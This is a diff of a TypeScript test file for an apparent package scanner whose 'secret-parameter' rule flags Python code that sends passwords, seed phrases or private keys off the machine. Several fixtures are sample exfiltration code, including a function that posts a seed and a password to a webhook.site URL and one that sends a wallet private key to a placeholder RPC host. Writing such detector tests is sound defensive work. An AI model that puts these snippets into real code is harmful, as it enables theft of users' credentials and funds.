@@ -192,8 +192,8 @@ test('a key that is changed for a session at the sign-in of its vendor is a note
         'pkg/console.py': python(
           'import json',
           'from urllib import parse, request',
-          'def token(access_key, secret_key):',
-          "    session = parse.quote_plus(json.dumps({'sessionId': access_key, 'sessionKey': secret_key}))",
+          'def token(access_key, private_key):',
+          "    session = parse.quote_plus(json.dumps({'sessionId': access_key, 'sessionKey': private_key}))",
           `    url = 'https://${host}/federation?Action=getSigninToken&Session=' + session`,
           '    with request.urlopen(url) as answer:',
           "        return json.loads(answer.read())['SigninToken']",
@@ -203,4 +203,63 @@ test('a key that is changed for a session at the sign-in of its vendor is a note
 
   expect(await of('signin.aws.amazon.com')).toMatchObject([{ class: 'note', score: 1 }]);
   expect(await of('signin.aws.sessions.invalid')).toMatchObject([{ class: 'suspicious', score: 6 }]);
+});
+
+test('seeds of generators and keys of rows are no secrets, keys of services are notes, where nothing deals in wallets', async () => {
+  const of = (name: string, more = ''): Promise<readonly Finding[]> =>
+    inspect(
+      'secret-parameter',
+      wheel({
+        'pkg/client.py': python(
+          'import requests',
+          `def made(prompt, ${name}):`,
+          `    answer = requests.post('https://api.pictures.invalid/v1', json={'p': prompt, 'v': ${name}})`,
+          '    return answer.json()',
+          more,
+        ),
+      }),
+    );
+
+  for (const name of ['seed', 'noise_seed', 'seed_value', 'pk', 'row_pk']) expect(await of(name)).toEqual([]);
+  expect(await of('secret_key')).toMatchObject([{ class: 'note', score: 1 }]);
+  const wallet = 'def address(words): return derive(words, "mnemonic")';
+  for (const name of ['seed', 'pk', 'secret_key'])
+    expect(await of(name, wallet)).toMatchObject([{ class: 'suspicious', score: 6 }]);
+  for (const name of ['seed_phrase', 'private_key', 'wallet_key'])
+    expect(await of(name)).toMatchObject([{ class: 'suspicious', score: 6 }]);
+});
+
+test('a secret behind one that is none still counts', async () => {
+  const file = wheel({
+    'pkg/client.py': python(
+      'import requests',
+      'def made(seed, password):',
+      "    requests.post('https://webhook.site/1b2c', json={'s': seed, 'p': password})",
+    ),
+  });
+
+  expect(await inspect('secret-parameter', file)).toContainEqual(
+    expect.objectContaining({ class: 'malware', score: 10 }),
+  );
+});
+
+test('a transaction that a library of wallets signed holds its signature alone; the key of the object that signs does not', async () => {
+  const of = (value: string): Promise<readonly Finding[]> =>
+    inspect(
+      'secret-parameter',
+      wheel({
+        'pkg/wallet.py': python(
+          'import requests',
+          'from eth_account import Account',
+          'def send(private_key, to):',
+          '    account = Account.from_key(private_key)',
+          "    signed = account.sign_transaction({'to': to})",
+          `    return requests.post('https://rpc.chains.invalid', json={'params': [${value}]}).json()`,
+        ),
+      }),
+    );
+
+  expect(await of('signed.raw_transaction.hex(), account.address')).toEqual([]);
+  for (const value of ['account.key.hex()', 'signed.raw_transaction.hex(), private_key', "'0x' + private_key"])
+    expect(await of(value)).not.toEqual([]);
 });
